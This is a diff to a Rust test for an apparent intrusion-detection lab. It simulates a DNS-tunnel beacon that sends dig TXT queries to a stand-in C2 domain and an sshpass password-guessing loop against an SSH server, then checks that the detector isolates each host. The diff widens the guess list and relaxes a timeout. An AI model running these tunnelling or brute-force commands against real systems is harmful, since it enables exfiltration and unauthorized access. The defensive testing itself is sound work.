@@ -135,7 +135,7 @@ fn udp_slow_and_hping3_scans_are_detected() {
 #[test]
 fn beacon_dns_tunnel_and_ssh_brute_force_are_detected() {
     let lab = lab::start("detc2", POLICY);
-    start_sshd(&lab, "records1");
+    let _sshd = start_sshd(&lab, "records1");
     for h in ["office1", "office2", "office3"] {
         browse(&lab, h);
     }
@@ -157,19 +157,20 @@ fn beacon_dns_tunnel_and_ssh_brute_force_are_detected() {
            dig +short +time=1 +tries=1 @203.0.113.53 TXT $l.$i.t.c2.lab >/dev/null; \
            sleep 0.2; done",
     );
-    // Password guessing against sshd.
+    // Password guessing against sshd: a word list, one guess a connection.
+    // Isolation comes at 30 guesses (docs/detection.md); fewer only alert.
     let brute = background(
         &lab,
         "office3",
         "ssh-brute",
         "for p in 123456 password admin letmein qwerty 111111 dragon monkey sunshine \
-                  master welcome shadow; do \
+                  master welcome shadow $(seq -f 'guess%g' 40); do \
            sshpass -p $p ssh -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null \
              -o PreferredAuthentications=password -o ConnectTimeout=3 admin@10.20.0.21 true; \
          done",
     );
     assert_isolated_within(&lab, "10.10.0.12", 30, "DNS tunnel");
-    assert_isolated_within(&lab, "10.10.0.13", 40, "SSH brute force");
+    assert_isolated_within(&lab, "10.10.0.13", 90, "SSH brute force");
     assert_isolated_within(&lab, "10.10.0.11", 60, "beacon");
     assert!(detectors(&lab, "10.10.0.11").contains(&"beacon".into()));
     assert!(detectors(&lab, "10.10.0.12")
